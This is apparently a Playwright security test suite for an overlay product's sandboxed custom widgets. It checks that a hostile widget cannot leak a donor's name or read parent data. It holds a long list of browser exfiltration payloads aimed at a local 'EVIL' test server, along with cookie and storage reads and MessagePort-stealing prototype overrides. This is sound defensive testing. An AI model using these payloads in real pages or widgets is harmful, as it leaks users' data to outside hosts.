// This file has over 300 lines, because it has the list of attacks that one widget tries against one server.
import type { Page } from '@playwright/test';
import { donate } from './support/api.ts';
import { addCustomWidget, widgetFrame } from './support/customWidget.ts';
import { type EvilServer, openEvilServer } from './support/evilServer.ts';
import { expect, test } from './support/fixtures.ts';

/* A hostile widget tries to send a donor's name to a server, or to read data that it may not have (SPEC CUS-43). */

test.use({ viewport: { width: 1_280, height: 720 } });

/** Each attack runs separately and may throw. `EVIL` is the address of a server that must not receive anything. */
const attacks: Readonly<Record<string, string>> = {
  fetch: "fetch(EVIL + 'fetch?' + secret, { mode: 'no-cors' })",
  xhr: "const x = new XMLHttpRequest(); x.open('POST', EVIL + 'xhr'); x.send(secret)",
  beacon: "navigator.sendBeacon(EVIL + 'beacon', secret)",
  image: "new Image().src = EVIL + 'image?' + secret",
  'css background': "document.body.style.background = 'url(' + EVIL + 'background?' + secret + ')'",
  'css import': "add('style', { textContent: '@import url(' + EVIL + 'import?' + secret + ');' })",
  'font face':
    "add('style', { textContent: '@font-face { font-family: x; src: url(' + EVIL + 'font?' + secret + '); } body { font-family: x; }' })",
  FontFace: "new FontFace('y', 'url(' + EVIL + 'fontface?' + secret + ')').load()",
  script: "add('script', { src: EVIL + 'script?' + secret })",
  'module import': "import(EVIL + 'import?' + secret)",
  ...Object.fromEntries(
    ['stylesheet', 'prefetch', 'preload', 'modulepreload', 'preconnect', 'prerender', 'dns-prefetch', 'manifest', 'icon'].map((rel) => [
      `link ${rel}`,
      `add('link', { rel: '${rel}', href: EVIL + 'link-${rel}?' + secret, as: 'script' })`,
    ]),
  ),
  'speculation rules':
    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [EVIL + 'speculation?' + secret] }], prerender: [{ source: 'list', urls: [EVIL + 'prerender?' + secret] }] }) })",
  iframe: "add('iframe', { src: EVIL + 'iframe?' + secret })",
  srcdoc:
    "add('iframe', { srcdoc: '<img src=\"' + EVIL + 'srcdoc?' + secret + '\"><script>new Image().src=\"' + EVIL + 'srcdoc-script\"</' + 'script>' })",
  object: "add('object', { data: EVIL + 'object?' + secret })",
  embed: "add('embed', { src: EVIL + 'embed?' + secret })",
  audio: "new Audio(EVIL + 'audio?' + secret).play()",
  'video poster': "add('video', { poster: EVIL + 'poster?' + secret })",
  track:
    "const v = add('video', {}); v.append(Object.assign(document.createElement('track'), { src: EVIL + 'track?' + secret, default: true })); v.textTracks[0].mode = 'showing'",
  svg: "document.body.insertAdjacentHTML('beforeend', '<svg><image href=\"' + EVIL + 'svg?' + secret + '\"/><use href=\"' + EVIL + 'use#x\"/><filter id=f><feImage href=\"' + EVIL + 'filter\"/></filter><rect width=9 height=9 filter=\"url(#f)\"/></svg>')",
  websocket: "new WebSocket(EVIL.replace('http', 'ws') + 'ws?' + secret)",
  eventsource: "new EventSource(EVIL + 'eventsource?' + secret)",
  webtransport: "new WebTransport('https://127.0.0.1:' + UDP + '/webtransport')",
  worker:
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + EVIL + 'worker?' + secret + '\"); importScripts(\"' + EVIL + 'worker-import\")'])))",
  'shared worker': "new SharedWorker(URL.createObjectURL(new Blob(['fetch(\"' + EVIL + 'shared-worker\")'])))",
  stun: 'rtc(window)',
  'stun of a child': "rtc(add('iframe', {}).contentWindow)",
  'stun of a srcdoc child':
    "add('iframe', { srcdoc: '<script>(' + rtc + ')(window)</' + 'script><img src=x onerror=\"(' + String(rtc).replaceAll('\"', '&quot;') + ')(window)\">' })",
  'stun of a javascript: child': "add('iframe', { src: 'javascript:(' + rtc + ')(window)' })",
  'blob script': "add('script', { src: URL.createObjectURL(new Blob(['new Image().src=\"' + EVIL + 'blob\"'])) })",
  'inline handler':
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"new Image().src=&quot;' + EVIL + 'handler&quot;\">')",
  'document.write': "document.write('<img src=\"' + EVIL + 'write?' + secret + '\">')",
  meta: "add('meta', { httpEquiv: 'refresh', content: '0;url=' + EVIL + 'meta?' + secret })",
  anchor: "add('a', { href: EVIL + 'anchor?' + secret, target: '_self' }).click()",
  'anchor in a new tab': "add('a', { href: EVIL + 'blank?' + secret, target: '_blank', rel: '' }).click()",
  'anchor above': "add('a', { href: EVIL + 'top?' + secret, target: '_top' }).click()",
  ping: "add('a', { href: '#x', ping: EVIL + 'ping?' + secret }).click()",
  form: "add('form', { action: EVIL + 'form', method: 'post' }).submit()",
  download: "add('a', { href: EVIL + 'download?' + secret, download: 'x' }).click()",
  open: "window.open(EVIL + 'open?' + secret)",
  'top location': "top.location = EVIL + 'top-location?' + secret",
  'parent location': "parent.location.href = EVIL + 'parent-location?' + secret",
  'data: document': "location.href = 'data:text/html,<img src=\"' + EVIL + 'data?' + secret + '\">'",
  'blob: document':
    "location.href = URL.createObjectURL(new Blob(['<img src=\"' + EVIL + 'blob-document?' + secret + '\">'], { type: 'text/html' }))",
  'own location': "location.href = EVIL + 'location?' + secret",
  'javascript: location': "location.href = 'javascript:void(new Image().src=\"' + EVIL + 'javascript\")'",
  'the companion’s own page': "location.href = 'http://127.0.0.1:' + location.port + '/#' + secret",
  'a policy’s reports':
    "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'Content-Security-Policy', content: \"img-src 'none'; report-uri \" + EVIL + 'report' })); new Image().src = 'data:,'",
};

/** Expressions that a widget must not be able to read. Each must throw or be empty. */
const reads: Readonly<Record<string, string>> = {
  'the parent’s document': 'parent.document.body.innerHTML',
  'the parent’s address': 'parent.location.href',
  'the parent’s storage': 'parent.localStorage.length',
  'cookies of the page': 'document.cookie',
  'a database': "window.indexedDB.open('x')",
  'its own storage': "Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage')?.get.call(window).length",
  'a channel to pages of its origin': "new BroadcastChannel('x').name && self.origin !== 'null' && self.origin",
  caches: "'caches' in window && window.caches",
  'the address of the overlay': 'document.referrer',
  'the key in its address': "/key/.test(location.href) ? location.href : ''",
  'other frames':
    '[...Array(parent.frames.length).keys()].filter((i) => parent.frames[i] !== window).map((i) => parent.frames[i].document.body.innerHTML).join()',
  'a service worker': "navigator.serviceWorker.register('/x.js').then",
  'the source of OBS': 'window.obsstudio',
};

const prelude = (server: EvilServer) => `
  const EVIL = 'http://127.0.0.1:${server.tcpPort}/';
  const UDP = ${server.udpPort};
  let secret = 'none';
  function add(tag, properties) { const e = Object.assign(document.createElement(tag), properties); document.body.append(e); return e; }
  function rtc(of) {
    const make = of.RTCPeerConnection || of.webkitRTCPeerConnection;
    const c = new make({ iceServers: [{ urls: 'stun:127.0.0.1:${server.udpPort}' }, { urls: 'turn:127.0.0.1:${server.tcpPort}?transport=tcp', username: 'u', credential: 'c' }] });
    c.createDataChannel('x');
    c.createOffer().then((offer) => c.setLocalDescription(offer));
  }
`;

/** Attacks that leave the widget's document. The widget must be removed after each of them. */
const leaving = [
  'document.write',
  'meta',
  'anchor',
  'download',
  'form',
  'data: document',
  'blob: document',
  'own location',
  'the companion’s own page',
];

test('[CUS-43] no data of a widget reaches a socket, whatever the widget tries', async ({ product, openOverlay }) => {
  const evil = await openEvilServer();
  const html = '<p id="tried"></p>';
  /** Code with which the widget reports that it is ready. A widget receives events only after `onWidgetLoad`. */
  const onLoad = "window.addEventListener('onWidgetLoad', () => (document.querySelector('#tried').textContent = '0'));";
  const staying = Object.entries(attacks).filter(([name]) => !leaving.includes(name));
  const all = `${prelude(evil)} ${onLoad}
    window.addEventListener('onEventReceived', async ({ detail: { listener, event } }) => {
      if (listener !== 'tip-latest') return;
      secret = encodeURIComponent(event.name);
      const runs = [${staying.map(([, code]) => `() => { ${code} }`).join(',\n')}];
      for (const run of runs) {
        try { run(); } catch {}
        await new Promise((done) => setTimeout(done, 20));
      }
      document.querySelector('#tried').textContent = runs.length;
    });
  `;
  await addCustomWidget(product, { html, js: all });
  for (const [index, name] of leaving.entries()) {
    const js = `${prelude(evil)} ${onLoad}
      window.addEventListener('onEventReceived', ({ detail: { listener, event } }) => {
        if (listener !== 'tip-latest') return;
        secret = encodeURIComponent(event.name);
        ${attacks[name] ?? ''}
      });
    `;
    const rect = { x: 40 + 150 * index, y: 460, width: 140, height: 60 };
    await addCustomWidget(product, { name, html, js }, { element: `leaving-${index}`, rect });
  }
  const overlay = await openOverlay();
  const address = overlay.url();
  await expect(overlay.locator('iframe.frame')).toHaveCount(1 + leaving.length);
  await expect(widgetFrame(overlay).locator('#tried')).toHaveText('0');
  for (const index of leaving.keys()) await expect(widgetFrame(overlay, `leaving-${index}`).locator('#tried')).toHaveText('0');
  await donate(product, { amount: 25, donorName: 'Ada Secret' });
  await expect(widgetFrame(overlay).locator('#tried')).toHaveText(String(staying.length));
  // A widget is removed if its attack opens another document. All other attacks, including pressing a link (SPEC CUS-95), are
  // refused and the widget remains.
  await expect.poll(() => overlay.locator('iframe.frame').count()).toBeLessThan(6);
  expect(evil.received).toEqual([]);
  expect(overlay.url()).toBe(address);
  expect(overlay.context().pages()).toHaveLength(1);
  evil.close();
});

/** Tries all `reads`, and shows those that returned something. */
const reading = `
  window.addEventListener('onWidgetLoad', () => {
    const got = [];
    ${Object.entries(reads)
      .map(([name, code]) => `try { const value = ${code}; if (value) got.push(${JSON.stringify(name)} + ': ' + value); } catch {}`)
      .join('\n')}
    document.querySelector('#got').textContent = JSON.stringify(got);
  });
`;

/** Requests dialogs, windows and devices, and shows what it got. */
const requesting = `
  window.addEventListener('onWidgetLoad', async () => {
    const got = [];
    const tries = {
      alert: () => alert('a'),
      confirm: () => confirm('b'),
      prompt: () => prompt('c'),
      print: () => print(),
      window: () => window.open('about:blank'),
      fullscreen: () => document.documentElement.requestFullscreen().then(() => 'full'),
      pointer: () => document.body.requestPointerLock()?.then(() => 'locked'),
      notifications: () => Notification.requestPermission().then((answer) => answer === 'granted' && answer),
      notification: () => Notification.permission === 'granted' && 'granted',
      camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
      screen: () => navigator.mediaDevices.getDisplayMedia(),
      place: () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
      clipboard: () => navigator.clipboard.readText(),
      'wake lock': () => navigator.wakeLock.request('screen'),
      key: () => navigator.keyboard?.lock(),
      usb: () => navigator.usb?.requestDevice({ filters: [] }),
    };
    for (const [name, run] of Object.entries(tries)) try { if (await run()) got.push(name); } catch {}
    document.querySelector('#got').textContent = JSON.stringify(got);
  });
`;

/** Replaces functions of its window. After 5 s, shows how many messages it could read. Two pings arrive by then. */
const stealing = `
  const listen = EventTarget.prototype.addEventListener;
  let stolen = 0;
  const replace = (object, name) => Object.defineProperty(object, name, { get() { stolen += 1; }, set() { stolen += 1; } });
  for (const name of ['postMessage', 'start', 'onmessage', 'close']) replace(MessagePort.prototype, name);
  for (const name of ['data', 'ports', 'source']) replace(MessageEvent.prototype, name);
  EventTarget.prototype.addEventListener = function (...all) {
    if (this !== window) stolen += 1;
    return listen.apply(this, all);
  };
  Event.prototype.stopImmediatePropagation = () => {};
  const iterate = Array.prototype[Symbol.iterator];
  Array.prototype[Symbol.iterator] = function () {
    if (this[0] instanceof MessagePort) stolen += 1;
    return iterate.call(this);
  };
  listen.call(window, 'message', () => (stolen += 1));
  listen.call(window, 'onWidgetLoad', () => setTimeout(() => (document.querySelector('#stolen').textContent = stolen), 5000));
`;

/** Runs scripts in a nested frame, where nothing would be counted. */
const nesting = `<p id="ran">no</p><script>
  if (parent !== top) parent.postMessage('ran', '*');
  else {
    const own = document.currentScript.src;
    addEventListener('message', ({ data }) => data === 'ran' && (document.querySelector('#ran').textContent = 'yes'));
    addEventListener('onWidgetLoad', () => {
      const child = document.body.appendChild(document.createElement('iframe'));
      setTimeout(() => (document.querySelector('#ran').dataset.loaded = 'yes'), 1_500);
      child.srcdoc = '<script src="' + own + '"></' + 'script><script src="' + new URL('lib/jquery/jquery.min.js', location.href) + '"></' + 'script>';
    });
  }
</script>`;

/** Posts to all frames of the common parent window. */
const posting = `
  let rounds = 0;
  addEventListener('onWidgetLoad', () => setInterval(() => {
    for (let index = 0; index < 20; index += 1) try { parent.frames[index].postMessage('neighbour', '*'); } catch {}
    document.querySelector('#rounds').textContent = rounds += 1;
  }, 100));
`;

/** Tries to get workers, worklets, WebGPU and many audio contexts. */
const working = `
  const code = URL.createObjectURL(new Blob(['postMessage(1); for (;;);'], { type: 'text/javascript' }));
  const own = new URL('script-0.js', location.href).href;
  const got = [];
  const tries = {
    worker: () => new Promise((done, fail) => Object.assign(new Worker(code), { onmessage: done, onerror: fail })),
    'worker of a child': () => {
      const child = document.body.appendChild(document.createElement('iframe'));
      return new Promise((done, fail) => Object.assign(new child.contentWindow.Worker(code), { onmessage: done, onerror: fail }));
    },
    'shared worker': () => new SharedWorker(code),
    'audio worklet': () => new AudioContext().audioWorklet.addModule(own),
    'offline audio worklet': () => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(own),
    'paint worklet': () => CSS.paintWorklet.addModule(own),
  };
  window.addEventListener('onWidgetLoad', async () => {
    for (const [name, run] of Object.entries(tries)) try { await run(); got.push(name); } catch {}
    if (navigator.gpu) got.push('gpu');
    if (performance.mark('a', { detail: 'x' }).detail) got.push('detail of a mark');
    const kept = [];
    const { constructor } = Object.getPrototypeOf(new AudioContext());
    try { for (;;) kept.push(kept.length % 2 ? new constructor() : new AudioContext()); } catch {}
    document.querySelector('#got').textContent = JSON.stringify(got) + (kept.length < 16 ? ' few' : ' many');
  });
`;

const got = '<p id="got"></p>';
const heard = '<p id="heard">nothing</p>';
const listening =
  "addEventListener('message', ({ data }) => data === 'neighbour' && (document.querySelector('#heard').textContent = data));";
/** One widget for each attack, by the id of its element. */
const widgets: Readonly<Record<string, { readonly html: string; readonly js?: string }>> = {
  reads: { html: got, js: reading },
  requests: { html: got, js: requesting },
  steals: { html: '<p id="stolen"></p>', js: stealing },
  nests: { html: nesting },
  hears: { html: heard, js: listening },
  posts: { html: '<p id="rounds">0</p>', js: posting },
  works: { html: got, js: working },
};

test('[CUS-5] [CUS-43] [CUS-47] a widget reads nothing of others, gets no dialog, screen, pointer, device, port, worker, nested script or WebGPU', async ({
  product,
  context,
  openOverlay,
}) => {
  for (const [index, [element, code]] of Object.entries(widgets).entries())
    await addCustomWidget(product, code, { element, rect: { x: 40 + 260 * index, y: 40, width: 240, height: 200 } });
  const dialogs: string[] = [];
  context.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const overlay = await openOverlay();
  const frame = (element: string) => widgetFrame(overlay, element);
  await test.step('reads and requests', async () => {
    for (const element of ['reads', 'requests']) await expect(frame(element).locator('#got')).toHaveText('[]');
    expect(dialogs).toEqual([]);
    expect(overlay.context().pages()).toHaveLength(1);
    expect(await overlay.evaluate(() => document.fullscreenElement ?? document.pointerLockElement)).toBeNull();
  });
  await test.step('nested frame', () => expect(frame('nests').locator('#ran[data-loaded=yes]')).toHaveText('no'));
  await test.step('other widgets', async () => {
    const hears = frame('hears').locator('#heard');
    await expect(hears).toHaveText('nothing');
    const rounds = async () => Number(await frame('posts').locator('#rounds').textContent());
    const before = await rounds();
    await expect.poll(rounds).toBeGreaterThan(before + 10);
    await expect(hears).toHaveText('nothing');
  });
  await test.step('port', () => expect(frame('steals').locator('#stolen')).toHaveText('0'));
  await test.step('workers', async () => {
    await expect(frame('works').locator('#got')).toHaveText('[] few');
    await expectPolicyRefusesWorker(overlay);
  });
});

/**
 * Runs code in an isolated world, which still has the APIs that Ovation removes from widgets, such as `Worker`. So only the content
 * security policy can refuse the code.
 */
async function expectPolicyRefusesWorker(overlay: Page): Promise<void> {
  const frame = await (await overlay.locator('[data-box="works"] iframe.frame').elementHandle())?.contentFrame();
  if (!frame) throw new Error('the overlay has no widget frame');
  const devtools = await overlay.context().newCDPSession(frame);
  const { frameTree } = await devtools.send('Page.getFrameTree');
  const { executionContextId: contextId } = await devtools.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id });
  const expression = `new Promise((done) => {
    const code = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
    const Thread = Worker;
    try {
      Object.assign(new Thread(trustedTypes.createPolicy('default', { createScriptURL: String }).createScriptURL(code)), { onmessage: () => done('runs'), onerror: () => done('refused') });
    } catch ({ name }) {
      done(name === 'SecurityError' ? 'refused' : name);
    }
  })`;
  const { result } = await devtools.send('Runtime.evaluate', { expression, contextId, awaitPromise: true });
  expect(result.value).toBe('refused');
}
